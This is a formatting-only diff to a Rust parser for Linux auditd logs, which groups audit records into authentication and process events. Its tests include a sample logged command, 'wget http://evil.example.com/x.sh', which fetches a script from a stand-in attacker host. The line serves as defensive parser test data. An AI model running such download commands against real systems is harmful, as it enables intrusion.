@@ -78,8 +78,8 @@ fn parse_record(text: &str) -> Result<Record<'_>, &'static str> {
     if secs_text.len() + used != time_text.len() {
         return Err("bad time in msg=audit(…)");
     }
-    let ts = Timestamp::new(i64::try_from(secs).map_err(|_| "bad time")?, nanos as i32)
-        .map_err(|_| "time out of range")?;
+    let ts =
+        Timestamp::new(i64::try_from(secs).map_err(|_| "bad time")?, nanos as i32).map_err(|_| "time out of range")?;
     let serial = crate::scan::parse_u64(serial).ok_or("bad serial in msg=audit(…)")?;
     let body = inner[close + 2..].trim_start();
     let (body, enriched) = match body.split_once('\u{1d}') {
@@ -139,20 +139,8 @@ fn for_each_field<'a>(body: &'a str, f: &mut dyn FnMut(&'a str, &'a str, bool)) 
 fn is_encodable(key: &str) -> bool {
     matches!(
         key,
-        "exe"
-            | "comm"
-            | "cmd"
-            | "proctitle"
-            | "name"
-            | "cwd"
-            | "acct"
-            | "path"
-            | "new-disk"
-            | "old-disk"
-            | "data"
-    ) || (key.len() >= 2
-        && key.as_bytes()[0] == b'a'
-        && key[1..].bytes().all(|c| c.is_ascii_digit() || c == b'['))
+        "exe" | "comm" | "cmd" | "proctitle" | "name" | "cwd" | "acct" | "path" | "new-disk" | "old-disk" | "data"
+    ) || (key.len() >= 2 && key.as_bytes()[0] == b'a' && key[1..].bytes().all(|c| c.is_ascii_digit() || c == b'['))
 }
 
 fn value(key: &str, v: &str, quoted: bool) -> String {
@@ -169,11 +157,10 @@ fn value(key: &str, v: &str, quoted: bool) -> String {
 
 fn kind_of(record_type: &str) -> EventKind {
     match record_type {
-        "USER_AUTH" | "USER_ACCT" | "USER_LOGIN" | "USER_LOGOUT" | "USER_START" | "USER_END"
-        | "CRED_ACQ" | "CRED_DISP" | "CRED_REFR" | "USER_ERR" | "LOGIN" | "USER_CHAUTHTOK"
-        | "ADD_USER" | "DEL_USER" | "ADD_GROUP" | "DEL_GROUP" | "USER_MGMT" | "GRP_MGMT"
-        | "ACCT_LOCK" | "ACCT_UNLOCK" | "USER_ROLE_CHANGE" | "ROLE_ASSIGN" | "ROLE_REMOVE"
-        | "GRP_AUTH" | "CHGRP_ID" | "CHUSER_ID" => EventKind::Authentication,
+        "USER_AUTH" | "USER_ACCT" | "USER_LOGIN" | "USER_LOGOUT" | "USER_START" | "USER_END" | "CRED_ACQ"
+        | "CRED_DISP" | "CRED_REFR" | "USER_ERR" | "LOGIN" | "USER_CHAUTHTOK" | "ADD_USER" | "DEL_USER"
+        | "ADD_GROUP" | "DEL_GROUP" | "USER_MGMT" | "GRP_MGMT" | "ACCT_LOCK" | "ACCT_UNLOCK" | "USER_ROLE_CHANGE"
+        | "ROLE_ASSIGN" | "ROLE_REMOVE" | "GRP_AUTH" | "CHGRP_ID" | "CHUSER_ID" => EventKind::Authentication,
         "USER_CMD" | "EXECVE" => EventKind::Process,
         _ => EventKind::Other,
     }
@@ -200,10 +187,7 @@ impl AuditdParser {
             let val = || value(k, v, quoted);
             match (kind, k) {
                 ("EXECVE", "argc") => {}
-                ("EXECVE", a)
-                    if a.starts_with('a')
-                        && a[1..].bytes().next().is_some_and(|c| c.is_ascii_digit()) =>
-                {
+                ("EXECVE", a) if a.starts_with('a') && a[1..].bytes().next().is_some_and(|c| c.is_ascii_digit()) => {
                     is_execve_arg.push(val());
                 }
                 ("PROCTITLE", "proctitle") => {
@@ -236,11 +220,7 @@ impl AuditdParser {
                     }
                 }
                 ("SYSCALL", "success") => {
-                    ev.outcome = if v == "yes" {
-                        Outcome::Success
-                    } else {
-                        Outcome::Failure
-                    };
+                    ev.outcome = if v == "yes" { Outcome::Success } else { Outcome::Failure };
                 }
                 (_, "addr" | "src" | "saddr_ip") => {
                     if let Some(ip) = parse_ip(v) {
@@ -255,14 +235,10 @@ impl AuditdParser {
                 }
                 (_, "lport") => ev.dst_port = v.parse().ok(),
                 (_, "hostname") if v != "?" => ev.push_attribute("hostname", v),
-                (_, "terminal" | "tty") if v != "?" && v != "(none)" => {
-                    ev.push_attribute("terminal", v)
-                }
-                (
-                    _,
-                    "uid" | "auid" | "euid" | "ses" | "syscall" | "exit" | "key" | "op" | "unit"
-                    | "cwd" | "id",
-                ) if v != "(null)" => {
+                (_, "terminal" | "tty") if v != "?" && v != "(none)" => ev.push_attribute("terminal", v),
+                (_, "uid" | "auid" | "euid" | "ses" | "syscall" | "exit" | "key" | "op" | "unit" | "cwd" | "id")
+                    if v != "(null)" =>
+                {
                     let v = val();
                     if ev.attribute(k) != Some(v.as_str()) {
                         ev.push_attribute(k.to_string(), v);
@@ -284,11 +260,7 @@ impl AuditdParser {
                     }
                     ev.push_attribute("login_user", v);
                 }
-                "UID" | "EUID"
-                    if v != "unset"
-                        && ev.user.as_deref() != Some(v)
-                        && ev.target_user.is_none() =>
-                {
+                "UID" | "EUID" if v != "unset" && ev.user.as_deref() != Some(v) && ev.target_user.is_none() => {
                     ev.target_user = Some(v.to_string());
                 }
                 _ => {}
@@ -331,9 +303,10 @@ impl LineFormat for AuditdParser {
                 });
             }
         };
-        let pos = self.groups.iter().rposition(|g| {
-            g.serial == r.serial && g.event.timestamp == r.ts && g.node.as_deref() == r.node
-        });
+        let pos = self
+            .groups
+            .iter()
+            .rposition(|g| g.serial == r.serial && g.event.timestamp == r.ts && g.node.as_deref() == r.node);
         if r.kind == "EOE" {
             if let Some(i) = pos
                 && let Some(mut g) = self.groups.remove(i)
@@ -346,13 +319,7 @@ impl LineFormat for AuditdParser {
         let i = match pos {
             Some(i) => i,
             None => {
-                let mut ev = cx.event(
-                    r.ts,
-                    r.time_text,
-                    kind_of(r.kind),
-                    Format::Auditd,
-                    line.provenance(),
-                );
+                let mut ev = cx.event(r.ts, r.time_text, kind_of(r.kind), Format::Auditd, line.provenance());
                 ev.action = Some(r.kind.to_ascii_lowercase().into());
                 ev.message = format!("type={} {}", r.kind, r.body);
                 if let Some(n) = r.node {
@@ -406,10 +373,7 @@ mod tests {
                     type=CWD msg=audit(1364481363.243:24287): cwd=\"/tmp\"\n\
                     type=SOCKADDR msg=audit(1364481363.243:24287): saddr=020000357F0000010000000000000000\n\
                     type=EOE msg=audit(1364481363.243:24287): \n";
-        let out = parse_all(
-            text.as_bytes(),
-            &ParseOptions::new("t").format(Format::Auditd),
-        );
+        let out = parse_all(text.as_bytes(), &ParseOptions::new("t").format(Format::Auditd));
         assert_eq!(out.skipped, 0, "{:?}", out.diagnostics);
         assert_eq!(out.events.len(), 2);
         let e = out
@@ -418,10 +382,7 @@ mod tests {
             .find(|e| e.action.as_deref() == Some("syscall"))
             .unwrap();
         assert_eq!(e.kind, EventKind::Process);
-        assert_eq!(
-            e.command_line.as_deref(),
-            Some("wget http://evil.example.com/x.sh")
-        );
+        assert_eq!(e.command_line.as_deref(), Some("wget http://evil.example.com/x.sh"));
         assert_eq!((e.pid, e.process.as_deref()), (Some(3538), Some("wget")));
         assert_eq!(e.attribute("cwd"), Some("/tmp"));
         assert_eq!(e.dst_ip.unwrap().to_string(), "127.0.0.1");
@@ -433,10 +394,7 @@ mod tests {
             .iter()
             .find(|e| e.action.as_deref() == Some("user_auth"))
             .unwrap();
-        assert_eq!(
-            (a.kind, a.outcome),
-            (EventKind::Authentication, Outcome::Success)
-        );
+        assert_eq!((a.kind, a.outcome), (EventKind::Authentication, Outcome::Success));
         assert_eq!(a.user.as_deref(), Some("admin"));
         assert_eq!(a.src_ip.unwrap().to_string(), "96.241.146.97");
     }
@@ -444,15 +402,9 @@ mod tests {
     #[test]
     fn hex_exe_and_enriched_names() {
         let text = "type=SYSCALL msg=audit(1485893834.891:18877199): arch=c000003e syscall=44 success=yes pid=1281 auid=1000 uid=0 comm=\"charon\" exe=2F7573722F6C6962657865632F7374726F6E677377616E2F636861726F6E202864656C6574656429 key=(null)\u{1d}ARCH=x86_64 AUID=\"alice\" UID=\"root\"\n";
-        let out = parse_all(
-            text.as_bytes(),
-            &ParseOptions::new("t").format(Format::Auditd),
-        );
+        let out = parse_all(text.as_bytes(), &ParseOptions::new("t").format(Format::Auditd));
         let e = &out.events[0];
-        assert_eq!(
-            e.attribute("exe"),
-            Some("/usr/libexec/strongswan/charon (deleted)")
-        );
+        assert_eq!(e.attribute("exe"), Some("/usr/libexec/strongswan/charon (deleted)"));
         assert_eq!(
             (e.user.as_deref(), e.target_user.as_deref()),
             (Some("alice"), Some("root"))
